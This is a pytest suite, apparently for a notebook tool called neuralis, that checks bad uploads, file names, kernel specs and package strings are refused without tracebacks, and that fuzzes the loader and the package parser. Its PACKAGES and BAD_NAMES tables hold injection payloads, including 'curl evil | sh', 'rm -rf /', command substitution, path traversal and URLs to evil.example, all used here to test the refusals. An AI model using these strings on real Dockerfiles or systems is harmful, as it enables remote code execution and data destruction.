"""Bad input, as users and files bring it: refused with a clear message, nothing written,
no traceback shown. Uploads and names go through the Notebook page (AppTest); kernel specs
through ``neuralis`` itself; the notebook loader and the package parser are fuzzed."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from neuralis.cli import main
from neuralis.config import Settings
from neuralis.docker.dockerfile import render
from neuralis.docker.spec import ImageSpec, parse_package
from neuralis.errors import InvalidPackage, NotebookFormatError
from neuralis.notebook import parse_notebook
from tests.reliability.conftest import record
from tests.ui.conftest import make_notebook, read

V3 = (Path(__file__).parents[1] / "files" / "golden_v3.ipynb").read_bytes()
UPLOADS: dict[str, tuple[bytes, str]] = {
    "not JSON": (b"{this is not json", "not JSON"),
    "JSON, wrong schema": (b'{"nbformat": 4, "nbformat_minor": 5, "cells": 7}', "not a valid"),
    "JSON, not a notebook": (b'["a", "list"]', "no 'nbformat' version"),
    "nbformat 2": (b'{"nbformat": 2, "worksheets": []}', "only versions 3 and 4"),
    "50 MB file": (b'{"nbformat": 4, "cells": ["' + b"x" * (50 * 2**20) + b'"]}', "50 MB"),
    "binary junk": (bytes(range(256)) * 64, "not JSON"),
    "UTF-16 text": ('{"nbformat": 4}'.encode("utf-16"), "not JSON"),
}


def shown(at: AppTest) -> str:
    """Return everything the page shows as text."""
    parts = [e.value for e in at.error] + [w.value for w in at.warning]
    parts += [m.value for m in at.markdown] + [c.value for c in at.code]
    return "\n".join(str(p) for p in parts)


def plain(markdown: str) -> str:
    """Return escaped Markdown as the text it shows."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u200b", "")


def files_in(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir()}


@pytest.mark.parametrize("kind", list(UPLOADS))
def test_bad_uploads_are_refused(
    kind: str, app: Callable[..., AppTest], notebook_dir: Path
) -> None:
    data, says = UPLOADS[kind]
    at = app()
    before = files_in(notebook_dir)
    at.file_uploader[0].set_value(("upload.ipynb", data, "application/x-ipynb+json"))
    at.button(key="FormSubmitter:upload-notebook-Upload").click().run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert any("Upload refused" in e and says in e for e in errors), errors
    assert files_in(notebook_dir) == before
    assert "Traceback" not in shown(at)
    record("input", f"upload: {kind}", "refused, nothing written")


def test_nbformat_3_upload_is_converted(app: Callable[..., AppTest], notebook_dir: Path) -> None:
    at = app()
    at.file_uploader[0].set_value(("old.ipynb", V3, "application/x-ipynb+json"))
    at.button(key="FormSubmitter:upload-notebook-Upload").click().run()
    assert not at.exception
    stored = json.loads((notebook_dir / "old.ipynb").read_text())
    assert stored["nbformat"] == 4 and stored["cells"]
    nbformat.validate(nbformat.from_dict(stored))
    record("input", "upload: nbformat 3", "converted to nbformat 4 and opened")


BAD_NAMES = {
    "'..'": "..",
    "'../escape'": "../escape",
    "'/'": "a/b",
    "absolute path": "/etc/passwd",
    "NUL": "bad\x00name",
    "300 characters": "n" * 300,
    "zero-width space": "welcome\u200b.ipynb",
    "right-to-left override": "report\u202egnp.ipynb",
}


@pytest.mark.parametrize("kind", list(BAD_NAMES))
def test_bad_notebook_names_are_refused(
    kind: str, app: Callable[..., AppTest], notebook_dir: Path
) -> None:
    name = BAD_NAMES[kind]
    make_notebook(notebook_dir, "keep.ipynb", ["1"])
    outside = set(notebook_dir.parent.iterdir())
    at = app(file="keep.ipynb")
    before = files_in(notebook_dir)
    at.text_input[0].input(name)  # "New notebook"
    at.button(key="FormSubmitter:new-notebook-Create").click().run()
    assert not at.exception
    assert any("name" in e.value for e in at.error), [e.value for e in at.error]
    at.query_params["file"] = name  # and the same name by URL
    at.run()
    assert not at.exception
    assert "neuralis_doc" not in at.session_state or at.session_state["neuralis_doc"].name == (
        "keep.ipynb"
    )
    assert files_in(notebook_dir) == before
    assert set(notebook_dir.parent.iterdir()) == outside
    assert "Traceback" not in shown(at)
    record("input", f"notebook name: {kind}", "refused, nothing written")


CRAFTED = {
    "600-deep nesting": ("[" * 600 + "]" * 600, "nested more than 100 levels deep"),
    "5000-digit integer": ("1" * 5000, "a number too long to read"),
    "lone \\ud800 escape": ('"\\ud800"', "half of a UTF-16 character pair"),
}


def crafted(value: str) -> bytes:
    """Return a valid notebook's JSON with ``value`` (raw JSON text) in its metadata."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["x"] = "@@X@@"
    return nbformat.writes(nb).replace('"@@X@@"', value).encode()


@pytest.mark.parametrize("kind", list(CRAFTED))
def test_crafted_notebooks_give_a_clear_message(
    kind: str, app: Callable[..., AppTest], notebook_dir: Path
) -> None:
    value, says = CRAFTED[kind]
    make_notebook(notebook_dir, "keep.ipynb", ["1"])
    (notebook_dir / "crafted.ipynb").write_bytes(crafted(value))
    before = files_in(notebook_dir)
    at = app(file="crafted.ipynb")  # by URL
    assert not at.exception
    assert any(says in plain(e.value) for e in at.error), [e.value for e in at.error]
    at.button(key="open-crafted.ipynb").click().run()  # and from the list
    assert not at.exception
    assert any(says in plain(e.value) for e in at.error)
    assert files_in(notebook_dir) == before
    assert "Traceback" not in shown(at)
    record("input", f"crafted notebook: {kind}", "refused with the reason, nothing written")


def test_reload_from_disk_after_the_file_was_truncated(
    app: Callable[..., AppTest], notebook_dir: Path
) -> None:
    (cid,) = make_notebook(notebook_dir, "cut.ipynb", ["x = 1"])
    at = app(file="cut.ipynb")
    path = notebook_dir / "cut.ipynb"
    path.write_bytes(path.read_bytes()[:40])  # another program left half a file
    at.session_state[f"ace-{cid}-0"] = "x = 'mine'"
    at.run()
    assert any("changed on disk" in w.value for w in at.warning)
    at.button(key="conflict-reload").click().run()
    assert not at.exception
    assert any("Cannot reload" in e.value and "not JSON" in plain(e.value) for e in at.error)
    assert at.session_state["neuralis_doc"].nb.cells[0].source == "x = 'mine'"  # kept
    at.button(key="conflict-overwrite").click().run()  # the way out: write ours
    assert "x = 'mine'" in read(notebook_dir, "cut.ipynb").cells[0].source
    record("input", "Reload from disk after the file was truncated", "refused, edits kept")


def test_a_notebook_too_large_to_open_says_its_size_and_can_be_cleared(
    app: Callable[..., AppTest], notebook_dir: Path
) -> None:
    make_notebook(notebook_dir, "keep.ipynb", ["1"])
    nb = nbformat.v4.new_notebook()
    out = nbformat.v4.new_output("stream", name="stdout", text="r" * (40 * 2**20))
    nb.cells = [nbformat.v4.new_code_cell("print('result')", outputs=[out])]
    (notebook_dir / "big.ipynb").write_text(nbformat.writes(nb))
    at = app(file="big.ipynb")
    assert not at.exception
    errors = [plain(e.value) for e in at.error]
    assert any("big.ipynb is 40 MB; notebooks over 32 MB" in e for e in errors), errors
    at.button(key="clear-too-large").click().run()
    assert not at.exception
    assert at.subheader[0].value == "big"  # opened
    saved = read(notebook_dir, "big.ipynb").cells[0]
    assert saved.source == "print('result')" and saved.outputs == []
    record("input", "notebook over 32 MB", "its real size said; outputs cleared on request")


CLI_BAD = {
    "kernel name with '..'": ["kernels", "build", "--python", "3.11", "--name", "../x"],
    "kernel name with '/'": ["kernels", "build", "--python", "3.11", "--name", "a/b"],
    "kernel name in capitals": ["kernels", "build", "--python", "3.11", "--name", "Big"],
    "kernel name of 300 characters": ["kernels", "build", "--python", "3.11", "--name", "k" * 300],
    "Python 2.7": ["kernels", "build", "--python", "2.7"],
    "Python 3.14": ["kernels", "build", "--python", "3.14"],
    "Python 'latest'": ["kernels", "build", "--python", "latest"],
    "kernel spec docker:../x": ["run", "nb.ipynb", "--kernel", "docker:../x"],
    "kernel spec with NUL": ["run", "nb.ipynb", "--kernel", "local:py\x00"],
    "kernel spec file://": ["run", "nb.ipynb", "--kernel", "gateway:file:///etc"],
}
PACKAGES = {
    "newline + RUN": "numpy\nRUN curl evil | sh",
    "carriage return": "numpy\r\nUSER root",
    "';' shell chaining": "numpy; rm -rf /",
    "';' then a command": "numpy ; curl evil.sh",
    "backticks": "numpy==`id`",
    "'$('": "numpy$(id)",
    "'${'": "numpy==${HOME}",
    "bare RUN line": "RUN apt-get install evil",
    "pip option": "--index-url=https://evil/simple",
    "file: URL": "x @ file:///etc/passwd",
    "ftp: URL": "x @ ftp://evil.example/x.whl",
    "ssh: URL": "x @ git+ssh://git@evil.example/x",
    "http: URL": "x @ http://evil.example/x.whl",
    "relative URL": "x @ ../x.whl",
    "javascript: URL": "x @ javascript:alert(1)",
}


@pytest.mark.parametrize(
    "argv",
    [*CLI_BAD.values(), *(["kernels", "build", "--python", "3.11", f"--package={p}"]
                          for p in PACKAGES.values())],
    ids=[*CLI_BAD, *(f"package {k}" for k in PACKAGES)],
)  # fmt: skip
def test_kernel_inputs_are_refused_before_touching_docker(
    argv: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    request: pytest.FixtureRequest,
) -> None:
    # With no engine reachable, anything that got as far as Docker would exit 3, not 2.
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
    monkeypatch.chdir(tmp_path)
    make_notebook(tmp_path, "nb.ipynb", ["1"])
    before = files_in(tmp_path)
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("neuralis: ") and "Traceback" not in err
    assert len(err.strip().splitlines()) <= 2
    assert files_in(tmp_path) == before
    record("input", request.node.callspec.id, "refused (exit 2), Docker untouched")


def test_markers_after_semicolon_stay_valid_pep_508() -> None:
    assert parse_package("numpy; python_version < '3.12'") == 'numpy; python_version < "3.12"'


# --- fuzzing ------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=400, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner,
                                                                max_size=4),
    max_leaves=20,
)  # fmt: skip
CELL_KEYS = ["cell_type", "source", "metadata", "outputs", "execution_count", "id", "attachments"]


def _notebookish(draw: Callable[[Any], Any]) -> Any:
    cells = draw(
        st.lists(
            st.dictionaries(st.sampled_from(CELL_KEYS), json_values | st.sampled_from(
                ["code", "markdown", "raw", [], {}, "x"]), max_size=7),
            max_size=3,
        )
    )  # fmt: skip
    base: dict[str, Any] = {
        "nbformat": draw(st.sampled_from([3, 4, 4, 4, 5, "4", None])),
        "nbformat_minor": draw(st.sampled_from([0, 4, 5, -1, "5"])),
        "metadata": draw(json_values),
        "cells": cells,
    }
    for key in draw(st.lists(st.sampled_from(list(base)), max_size=2)):
        base.pop(key, None)
    return base


@FUZZ
@given(st.binary(max_size=2000))
def test_fuzz_loader_on_bytes(data: bytes) -> None:
    _load_or_refuse(data)


@FUZZ
@given(st.composite(_notebookish)())
def test_fuzz_loader_on_notebook_shaped_json(doc: Any) -> None:
    _load_or_refuse(json.dumps(doc).encode())


def _load_or_refuse(data: bytes) -> None:
    """The loader returns a valid notebook or refuses with one clear line; nothing else."""
    try:
        nb = parse_notebook(data, "fuzz.ipynb")
    except NotebookFormatError as exc:
        assert str(exc).startswith("fuzz.ipynb ") and "\n" not in str(exc)
        return
    nbformat.validate(nb)
    assert nb.nbformat == 4 and all(c.get("id") for c in nb.cells)


PACKAGE_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=80
) | st.from_regex(
    r"[A-Za-z][A-Za-z0-9._-]{0,10}( ?(\[[a-z,]*\])?)( ?[<>=!~;@$`|&'\"\n(){}/ :.0-9a-z]{0,30})",
    fullmatch=True,
)
PLAIN = render(ImageSpec("fuzz", "3.11", ("numpy",)), Settings())


@FUZZ
@given(PACKAGE_TEXT)
def test_fuzz_package_parser(text: str) -> None:
    """Accepted text is canonical PEP 508, stable, and one argument of one Dockerfile line."""
    try:
        parsed = parse_package(text)
    except InvalidPackage as exc:
        assert "\n" not in str(exc)
        return
    assert parse_package(parsed) == parsed
    assert not set(parsed) & set("$`\\{}|&\n\r\t\0'")
    rendered = render(ImageSpec("fuzz", "3.11", (parsed,)), Settings())
    lines = rendered.dockerfile.splitlines()
    assert len(lines) == len(PLAIN.dockerfile.splitlines())
    (pip,) = [line for line in lines if '"pip", "install"' in line]
    assert json.loads(pip.removeprefix("RUN "))[-1] == parsed
